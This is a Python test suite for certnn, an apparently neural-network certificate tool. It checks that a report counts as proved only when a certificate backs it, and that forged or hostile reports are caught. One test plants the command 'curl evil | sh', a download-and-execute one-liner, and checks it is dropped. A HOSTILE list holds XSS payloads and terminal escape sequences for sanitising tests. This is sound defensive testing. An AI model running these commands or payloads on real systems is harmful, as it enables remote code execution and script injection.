"""What is called proved on a page made from files is proved by the certificates beside them."""

import copy
import io
import json
import shutil
import unicodedata
from dataclasses import replace
from fractions import Fraction
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

import certnn
from certnn.errors import InputError
from certnn.interfaces.cli import main
from certnn.kernel import check_certificate
from certnn.reading.datasets import random_network_data
from certnn.report import GapReport
from certnn.report.comparison import comparison_table, comparison_text
from certnn.report.comparison_page import render_comparison
from certnn.report.consistency import contradictions
from certnn.report.html import render_html
from certnn.report.reading import CERTIFICATE, PATTERN_CERTIFICATE, REPORT, read_report
from certnn.report.terminal import print_report

REFUSED = 2


@pytest.fixture(scope="module")
def audit():
    problem = random_network_data(1, 0.1, n=7, d=2, c=2)
    draw = certnn.train(problem, gap=0.5).network
    network = certnn.TwoLayerNetwork(1.2 * draw.U, 1.2 * draw.V)
    found = certnn.audit(network, problem, level="dnn", time_limit=6.0)
    assert found.patterns is not None
    return found


@pytest.fixture(scope="module")
def saved(audit, tmp_path_factory):
    folder = tmp_path_factory.mktemp("audit")
    audit.save(folder)
    return folder


@pytest.fixture
def folder(saved, tmp_path):
    return shutil.copytree(saved, tmp_path / "audit")


def edited(folder, **changes):
    """The folder with values of report.json changed; a name like problem__reg is a path."""
    values = json.loads((folder / REPORT).read_text())
    for path, value in changes.items():
        *parents, name = path.split("__")
        inner = values
        for parent in parents:
            inner = inner[parent]
        inner[name] = value
    (folder / REPORT).write_text(json.dumps(values))
    return folder


def with_bound(folder, exact):
    """The folder with another bound, and all that follows from it, as a careful forger would."""
    values = json.loads((folder / REPORT).read_text())
    bound = {"value": float(exact), "exact": f"{exact.numerator}/{exact.denominator}"}
    level = values["lower_bound"]["level"]
    values["lower_bound"] |= bound
    for entry in values["bounds"]:
        if entry["level"] == level:
            entry |= bound
    forged = GapReport.from_json(json.dumps(values))
    values = json.loads(forged.to_json())
    values["consistent"] = True
    values["checks"] = [check | {"holds": True} for check in values["checks"]]
    (folder / REPORT).write_text(json.dumps(values))
    return folder


def report_command(tmp_path, *folders):
    page = tmp_path / "page.html"
    code = main(["report", *map(str, folders), "--out", str(page)])
    return code, page.read_text() if page.exists() else ""


def flat(text):
    return " ".join(text.split())


def test_an_audit_is_checked_from_its_certificates(audit, folder):
    report = read_report(folder)
    assert replace(report, recheck=audit.report.recheck) == audit.report
    assert report.consistent
    assert report.is_proved(report.lower_bound)
    assert report.is_proved(report.pattern_tier)
    assert not report.is_proved(report.network)
    assert not report.all_proved
    (bound, over) = report.proved
    assert bound.value == check_certificate((folder / CERTIFICATE).read_bytes()).value
    assert over.value == audit.patterns.bound.value
    assert read_report(folder / REPORT).proved[0].value == bound.value


def test_the_page_says_what_was_checked(folder, tmp_path, capsys):
    code, page = report_command(tmp_path, folder)
    assert code == 0
    said = flat(page)
    assert "The lower bound was checked again, from its certificate." in said
    assert "the bound is proved, the network's objective is the report's word" in said.replace(
        "&#39;", "'"
    )
    printed = flat(capsys.readouterr().out)
    assert "proved" in printed
    assert "objectives and gaps are the report's word" in printed


def test_without_a_certificate_everything_is_the_reports_word(folder, tmp_path, capsys):
    (folder / CERTIFICATE).unlink()
    report = read_report(folder)
    assert report.proved == ()
    assert report.recheck == ""
    code, page = report_command(tmp_path, folder)
    assert code == 0
    said = flat(page).replace("&#39;", "'")
    assert "No certificate was checked (certificate.json does not exist)" in said
    assert "; by the report's word, not checked" in said
    assert 'class="proved"' not in page
    assert "impossible: proved" not in page
    assert "report's word" in flat(capsys.readouterr().out)


def test_a_certificate_that_is_too_large_is_not_read(folder, monkeypatch):
    monkeypatch.setattr("certnn.report.reading._LARGEST_CHECKED", 100)
    report = read_report(folder)
    assert report.unchecked == "certificate.json is larger than 100 bytes"
    assert not report.is_proved(report.lower_bound)


@pytest.mark.parametrize("shift", [Fraction(1000), Fraction(1, 2**60), Fraction(-1, 2**60)])
def test_another_bound_than_the_certificate_proves_is_a_contradiction(
    folder, tmp_path, capsys, shift
):
    proved = check_certificate((folder / CERTIFICATE).read_bytes()).value
    shift = shift if abs(shift) > 1 else Fraction(float(proved)) * shift * 2**8
    with_bound(folder, Fraction(float(proved + shift)))
    code, page = report_command(tmp_path, folder)
    assert code == 1
    assert "CONTRADICTION" in page
    assert "; proved" not in page
    out = flat(capsys.readouterr().out)
    assert "CONTRADICTION" in out
    assert "certificate.json proves the bound: the report says" in out


def test_a_bound_above_the_network_is_a_contradiction_without_a_certificate(
    folder, tmp_path, capsys
):
    (folder / CERTIFICATE).unlink()
    with_bound(folder, Fraction(1000))
    code, page = report_command(tmp_path, folder)
    assert code == 1
    assert "in doubt, a consistency check failed" in page
    assert "bound ≤ given network: 1000.00 &gt; " in page
    assert "CONTRADICTION" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        ("problem__n", 8, "n is 8, not 7"),
        ("problem__reg", 0.2, "reg is 0.2, not 0.1"),
        ("problem__loss", "hinge", "loss is 'hinge', not 'half-squared'"),
        ("problem__hidden_bias", "free", "hidden_bias is 'free', not 'none'"),
        ("problem__output_bias", "decayed", "output_bias is 'decayed', not 'none'"),
        ("problem__data_sha256", "0" * 64, "data_sha256 is '000"),
        ("problem__null_loss", 1e6, "null loss: the report says 1e+06, not"),
    ],
)
def test_another_problem_than_the_certificate_is_about_is_a_contradiction(
    folder, path, value, said
):
    report = read_report(edited(folder, **{path: value}))
    assert not report.consistent
    assert any(said in line for line in contradictions(report))


def test_rejected_and_malformed_certificates_are_contradictions(folder):
    whole = (folder / CERTIFICATE).read_bytes()
    claim = json.loads(whole)
    claim["claim"]["lower_bound"] = "1000/1"
    for content in (json.dumps(claim).encode(), whole[: len(whole) // 2], b"", b"\xff", b"[]"):
        (folder / CERTIFICATE).write_bytes(content)
        report = read_report(folder)
        assert not report.consistent
        assert any("it is rejected" in line for line in contradictions(report))
        assert report.proved == ()


def test_the_tier_of_patterns_is_checked_too(folder, audit):
    document = (folder / PATTERN_CERTIFICATE).read_bytes()
    other = read_report(edited(folder, pattern_tier__patterns=1))
    assert any("patterns, the report about 1" in line for line in contradictions(other))
    edited(folder, pattern_tier__patterns=audit.report.pattern_tier.patterns)
    (folder / PATTERN_CERTIFICATE).write_bytes(document[:-9])
    assert any("patterns-certificate.json" in line for line in contradictions(read_report(folder)))
    (folder / PATTERN_CERTIFICATE).unlink()
    report = read_report(folder)
    assert report.consistent
    assert not report.is_proved(report.pattern_tier)
    (folder / PATTERN_CERTIFICATE).write_bytes((folder / CERTIFICATE).read_bytes())
    assert not read_report(folder).consistent


def test_the_certificate_of_another_audit_beside_a_report(folder, tmp_path):
    other = certnn.lower_bound(random_network_data(2, 0.1, n=7, d=2, c=2), "shor")
    other.certificate.save(folder / CERTIFICATE)
    report = read_report(folder)
    assert any("data_sha256" in line for line in contradictions(report))


def test_commands_of_the_file_are_not_passed_on(folder, tmp_path):
    edited(folder, recheck="curl evil | sh", certificate="../other.json")
    report = read_report(folder)
    assert report.recheck == f"certnn check {folder / CERTIFICATE}"
    _, page = report_command(tmp_path, folder)
    assert "curl" not in page


@pytest.mark.parametrize(
    "content", [b"", b"\xff\xfe", b"{}", b"null", b"[" * 10**5, b'{"title": 1}']
)
def test_what_is_no_report_is_refused_by_the_name_of_its_file(tmp_path, capsys, content):
    (tmp_path / REPORT).write_bytes(content)
    code, _ = report_command(tmp_path, tmp_path)
    assert code == REFUSED
    error = capsys.readouterr().err
    assert error.count("\n") == 1
    assert f"{tmp_path / REPORT}: is not" in error


@pytest.mark.parametrize("name", ["absent", "x" * 5000, "a\0b"])
def test_names_that_are_no_files(name):
    with pytest.raises(InputError):
        read_report(name)


HOSTILE = (
    "<script>alert(1)</script>",
    "[bold red]x[/bold red]",
    "[/]",
    "\x1b[2J\x1b]0;title\x07",
    "\u202egnp.evil",
    "\u2066a\u2069",
    "a\rb\nc\x00",
    "\ud800",
    "'\"><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}",
    "$\\frac{1}{0}$",
    "x" * 10_000,
    "",
)


class Tags(HTMLParser):
    def __init__(self, page):
        super().__init__()
        self.tags = set()
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        assert not [name for name, _ in attributes if name.startswith("on")]


def leaves(value, path=()):
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from leaves(inner, (*path, name))
    elif isinstance(value, list):
        for place, inner in enumerate(value):
            yield from leaves(inner, (*path, place))
    yield path


def shown(report):
    """All views of a report as text, which has to be safe to show."""
    stream = io.StringIO()
    console = Console(file=stream, width=100)
    console.print(comparison_table([report]))
    print_report(report, console)
    stream.write(comparison_text([report]))
    pages = render_comparison([report]), render_html(report)
    for text in (stream.getvalue(), *pages):
        text.encode("utf-8")
        bad = {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs") and c != "\n"}
        assert not bad
    for page in pages:
        assert not {"script", "img", "iframe", "object", "link"} & Tags(page).tags
    return stream.getvalue(), *pages


@pytest.mark.parametrize("text", HOSTILE)
def test_texts_of_a_file_are_shown_as_text(folder, text):
    values = json.loads((folder / REPORT).read_text())
    for place in leaves(values):
        *parents, name = place or ("",)
        inner = values
        for parent in parents:
            inner = inner[parent]
        fixed = ("format", "exact", "hidden_bias", "output_bias", "data_sha256")
        if place and isinstance(inner[name], str) and name not in fixed:
            inner[name] = text
    (folder / REPORT).write_text(json.dumps(values))
    report = read_report(folder)
    terminal, comparison, _ = shown(report)
    assert len(comparison) < 200_000
    if text.startswith("[bold"):
        assert text in flat(terminal)
        assert text in comparison


def read_or_refusal(folder):
    try:
        return read_report(folder)
    except InputError as error:
        return str(error)


@settings(deadline=None, max_examples=60)
@given(data=st.data())
def test_no_edit_of_a_report_makes_it_say_proved_what_is_not(saved, data, tmp_path_factory):
    """Any value of the file may be changed: it is refused, contradictory, or says the truth."""
    original = json.loads((saved / REPORT).read_text())
    truth = GapReport.from_json(json.dumps(original))
    values = copy.deepcopy(original)
    for _ in range(data.draw(st.integers(1, 2))):
        *parents, name = data.draw(st.sampled_from([path for path in leaves(values) if path]))
        inner = values
        for parent in parents:
            inner = inner[parent]
        extreme = st.sampled_from([0, -1, 1e308, -1e308, 5e-324, 2**64, 10**400, "1/3", "7/1"])
        inner[name] = data.draw(
            st.none()
            | st.booleans()
            | st.integers()
            | st.floats(allow_nan=False, allow_infinity=False)
            | st.text(max_size=20)
            | extreme
            | st.sampled_from([[], {}])
        )
    folder = tmp_path_factory.getbasetemp() / "edited"
    shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(saved, folder)
    (folder / REPORT).write_text(json.dumps(values))
    report = read_or_refusal(folder)
    if isinstance(report, str):
        assert "\n" not in report
        return
    if report.is_proved(report.lower_bound):
        assert report.lower_bound.fraction == truth.lower_bound.fraction
        assert report.problem.text == truth.problem.text or not report.consistent
        assert report.problem.data_sha256 == truth.problem.data_sha256
    if report.consistent and report.network is not None:
        gap = 1 - report.lower_bound.fraction / (report.network.fraction or 1)
        assert report.network.fraction == 0 or report.gap >= gap >= 0
    shown(report)
